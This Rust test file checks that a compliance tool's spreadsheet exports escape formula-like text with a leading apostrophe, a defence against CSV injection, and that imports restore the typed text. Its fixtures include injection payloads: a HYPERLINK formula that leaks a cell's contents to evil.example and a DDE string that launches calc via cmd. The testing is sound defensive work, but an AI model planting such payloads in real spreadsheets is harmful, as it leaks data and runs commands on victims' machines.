//! Text a person typed is never a formula in our spreadsheets, not even
//! after the sheet is saved again as CSV: every text cell starting with
//! `=`, `+`, `-` or `@` (or a tab or carriage return) is written with a
//! leading apostrophe (OWASP's advice against CSV injection), in every
//! workbook we write. openpyxl and LibreOffice are the independent
//! readers; the answers import takes the apostrophe off again, so the
//! round trip keeps the text exactly.

mod common;

use std::path::Path;
use std::process::{Command, Stdio};

use etterlev_core::AnswerStatus;
use etterlev_core::sector_stats::{Contribution, tabulate};
use etterlev_core::{SizeClass, TenantKind};
use etterlev_reports::{
    AnswerRow, Lang, StatisticsLabels, answers_xlsx, answers_xlsx_meta, catalog_xlsx_on, parse_answers_xlsx,
    statistics_xlsx,
};

/// What people type that a spreadsheet would run.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikk\")",
    "+47 22 00 00 00",
    "-5 dager etter fristen",
    "@SUM(1+1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "'=allerede med apostrof",
];

fn rows() -> Vec<AnswerRow> {
    let row = |i: usize, owner: &str, comment: &str, na: Option<&str>| AnswerRow {
        node_id: format!("{i}.1-a"),
        label: format!("{i}.1 a"),
        title: format!("Krav {i}"),
        status: if na.is_some() {
            AnswerStatus::NotApplicable
        } else {
            AnswerStatus::Partly
        },
        maturity: None,
        owner: Some(owner.into()),
        due_date: Some("2027-01-06".into()),
        comment: Some(comment.into()),
        na_reason: na.map(str::to_owned),
    };
    vec![
        row(1, FORMULAS[0], FORMULAS[1], None),
        row(2, FORMULAS[2], FORMULAS[3], Some(FORMULAS[5])),
        row(3, "Kari Nordmann", FORMULAS[6], Some("=1+1")),
        row(4, "@kari", "Vanlig tekst", None),
    ]
}

fn statistics() -> Vec<u8> {
    let contributions: Vec<Contribution> = (0..6)
        .map(|i| Contribution {
            kind: TenantKind::GpOffice,
            size: SizeClass::Micro,
            score: f64::from(i) * 10.0,
        })
        .collect();
    let rows: Vec<String> = TenantKind::ALL
        .iter()
        .map(|k| k.as_str().to_owned())
        .chain(["Alle".into()])
        .collect();
    let cols: Vec<String> = SizeClass::ALL
        .iter()
        .map(|s| s.as_str().to_owned())
        .chain(["Alle".into()])
        .collect();
    statistics_xlsx(
        &tabulate(&contributions, 5),
        &StatisticsLabels {
            title: "Sektorstatistikk",
            // The chapter comes from the address the user asked for.
            measure: "=HYPERLINK(\"https://evil.example\")",
            note: "k = 5",
            kind: "Virksomhetstype",
            enterprises: "Antall virksomheter",
            mean: "Gjennomsnitt",
            hidden: ":",
            rows: &rows,
            cols: &cols,
        },
    )
    .expect("xlsx")
}

fn catalog() -> Vec<u8> {
    let yaml = common::FIXTURE
        .replace("Ansvaret gjennomgås årlig", "\"=1+2\"")
        .replace(
            "Ansvarsfordelingen bør gjennomgås minst én gang i året.",
            "\"-5 dager: gjennomgå ansvaret.\"",
        );
    let catalog = etterlev_catalog::parse_catalog("formula.yaml", yaml.as_bytes()).expect("fixture loads");
    catalog_xlsx_on(&catalog, Lang::Nb, common::generated()).expect("xlsx")
}

fn python_with_openpyxl() -> bool {
    let ok = Command::new("python3")
        .args(["-c", "import openpyxl"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        if std::env::var("CI").as_deref() == Ok("true") {
            panic!("openpyxl is required in CI: python3 -m pip install openpyxl");
        }
        println!("SKIPPED: openpyxl not installed");
    }
    ok
}

/// Every cell of every sheet as openpyxl reads it: sheet, cell, type, value.
fn openpyxl_cells(path: &Path) -> serde_json::Value {
    let script = r#"
import sys, json, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
out = []
for ws in wb.worksheets:
    for row in ws.iter_rows():
        for c in row:
            if c.value is not None:
                out.append([ws.title, c.coordinate, c.data_type, str(c.value)])
print(json.dumps(out))
"#;
    let out = Command::new("python3")
        .args(["-c", script])
        .arg(path)
        .output()
        .expect("python3 runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).expect("json")
}

fn starts_a_formula(value: &str) -> bool {
    value.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// openpyxl reads every workbook: no cell is a formula, no text cell
/// starts one, and each typed formula is there with its apostrophe.
#[test]
fn no_workbook_holds_a_formula() {
    if !python_with_openpyxl() {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let answers = answers_xlsx("normen-6.0", "=Egenvurdering", &rows(), Lang::Nb).expect("xlsx");
    for (name, bytes, expected) in [
        (
            "answers",
            answers,
            vec![
                format!("'{}", FORMULAS[0]),
                format!("'{}", FORMULAS[1]),
                format!("'{}", FORMULAS[2]),
                format!("'{}", FORMULAS[3]),
                format!("'{}", FORMULAS[5]),
                format!("'{}", FORMULAS[6]),
                "'=1+1".to_owned(),
                "'@kari".to_owned(),
                "'=Egenvurdering".to_owned(),
            ],
        ),
        (
            "catalog",
            catalog(),
            vec!["'=1+2".to_owned(), "'-5 dager: gjennomgå ansvaret.".to_owned()],
        ),
        (
            "statistics",
            statistics(),
            vec!["'=HYPERLINK(\"https://evil.example\")".to_owned()],
        ),
    ] {
        let path = dir.path().join(format!("{name}.xlsx"));
        std::fs::write(&path, &bytes).expect("write");
        let cells = openpyxl_cells(&path);
        let cells = cells.as_array().expect("cells");
        assert!(!cells.is_empty(), "{name}");
        let mut values = Vec::new();
        for cell in cells {
            let (sheet, at, kind, value) = (
                cell[0].as_str().unwrap_or(""),
                cell[1].as_str().unwrap_or(""),
                cell[2].as_str().unwrap_or(""),
                cell[3].as_str().unwrap_or(""),
            );
            assert_ne!(kind, "f", "{name} {sheet}!{at} is a formula: {value:?}");
            if kind == "s" {
                assert!(
                    !starts_a_formula(value),
                    "{name} {sheet}!{at} starts a formula: {value:?}"
                );
            }
            values.push(value.to_owned());
        }
        for e in expected {
            assert!(values.contains(&e), "{name}: no cell {e:?} in {values:?}");
        }
    }
}

/// The answers sheet saved again as CSV by LibreOffice: no field starts a
/// formula, and the typed text is there behind its apostrophe.
#[test]
fn resaved_as_csv_no_field_starts_a_formula() {
    let Some(soffice) = common::libreoffice::soffice() else {
        if std::env::var("CI").as_deref() == Ok("true") {
            panic!("LibreOffice (soffice) is required in CI");
        }
        println!("SKIPPED: LibreOffice (soffice) not installed");
        return;
    };
    let dir = tempfile::tempdir().expect("tempdir");
    let input = dir.path().join("answers.xlsx");
    std::fs::write(&input, answers_xlsx("k", "t", &rows(), Lang::Nb).expect("xlsx")).expect("write");
    let status = Command::new(&soffice)
        .arg(format!(
            "-env:UserInstallation=file://{}",
            dir.path().join("profile").display()
        ))
        .args([
            "--headless",
            "--norestore",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
        ])
        .arg(dir.path())
        .arg(&input)
        .env("HOME", dir.path())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .expect("start soffice");
    // Without Calc, LibreOffice cannot load a workbook and writes nothing.
    let Ok(csv) = std::fs::read_to_string(dir.path().join("answers.csv")) else {
        if std::env::var("CI").as_deref() == Ok("true") {
            panic!("LibreOffice Calc is required in CI: apt-get install libreoffice-calc-nogui ({status})");
        }
        println!("SKIPPED: LibreOffice Calc (libreoffice-calc-nogui) not installed");
        return;
    };
    let fields = csv_fields(&csv);
    assert!(fields.len() > 40, "{fields:?}");
    for f in &fields {
        assert!(!starts_a_formula(f), "CSV field starts a formula: {f:?}\n{csv}");
    }
    for typed in [FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[3]] {
        assert!(fields.contains(&format!("'{typed}")), "{typed:?} missing in\n{csv}");
    }
}

/// The fields of a CSV text (comma separated, double quotes doubled).
fn csv_fields(csv: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',' | '\n', false) => out.push(std::mem::take(&mut field)),
            ('\r', false) => {}
            (c, _) => field.push(c),
        }
    }
    if !field.is_empty() {
        out.push(field);
    }
    out
}

/// The import takes the apostrophe off again: what was typed comes back
/// exactly, also a text that began with an apostrophe of its own.
#[test]
fn answers_round_trip_keeps_typed_formulas_as_text() {
    for lang in [Lang::Nb, Lang::En] {
        let bytes = answers_xlsx("normen-6.0", "=Egenvurdering", &rows(), lang).expect("xlsx");
        assert_eq!(parse_answers_xlsx(&bytes), Ok(rows()), "{lang}");
        let meta = answers_xlsx_meta(&bytes).expect("meta");
        assert_eq!(meta.assessment_title, "=Egenvurdering");
    }
}

/// The sector statistics: both sheets have the header row frozen and the
/// filter on it, like the other spreadsheets.
#[test]
fn statistics_sheets_have_frozen_header_and_filter() {
    if !python_with_openpyxl() {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("statistics.xlsx");
    std::fs::write(&path, statistics()).expect("write");
    let script = r#"
import sys, json, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
print(json.dumps([[ws.title, ws.freeze_panes, ws.auto_filter.ref, ws["A5"].value, ws.max_row, ws.max_column] for ws in wb.worksheets]))
"#;
    let out = Command::new("python3")
        .args(["-c", script])
        .arg(&path)
        .output()
        .expect("python3 runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let sheets: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let sheets = sheets.as_array().expect("sheets");
    assert_eq!(sheets.len(), 2);
    let last_row = 5 + TenantKind::ALL.len() + 1;
    let last_col = (b'A' + (SizeClass::ALL.len() + 1) as u8) as char;
    for s in sheets {
        assert_eq!(s[1], "B6", "{s}");
        assert_eq!(s[2], format!("A5:{last_col}{last_row}"), "{s}");
        assert_eq!(s[3], "Virksomhetstype", "{s}");
    }
}
